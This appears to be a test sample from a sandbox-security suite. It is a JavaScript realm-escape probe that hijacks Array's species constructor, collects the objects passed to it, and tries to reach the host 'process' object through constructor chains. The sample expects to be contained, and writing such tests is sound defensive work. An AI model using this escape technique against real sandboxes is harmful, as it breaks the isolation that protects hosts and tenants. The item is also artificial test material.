/*---
id: re-array-species-03-species-on-api-arrays
description: "Installs a species constructor on Array itself, so every array the runtime derives with map, filter or slice (logs, module lists, results) is built by guest code that records what it receives."
kind: malicious
category: realm-escape
technique: RE-array-species
variant: combined
references:
  - "CVE-2026-24118"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained }
  high-security: { outcome: contained }
  tenant-isolated: { outcome: contained }
---*/
const received = [];
class Spy extends Array {}
Object.defineProperty(Array, Symbol.species, { configurable: true, get() { return function (n) { received.push(n, this); return new Spy(); }; } });
console.log('after species', [1, 2].map((x) => x));
if (typeof require === 'function') { try { require('lodash').map([1], (x) => x); } catch (e) {} }
for (const v of received) {
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') console.log('ESCAPED'); } catch (e) {}
}
return [1, 2, 3].filter((x) => x > 1).length;
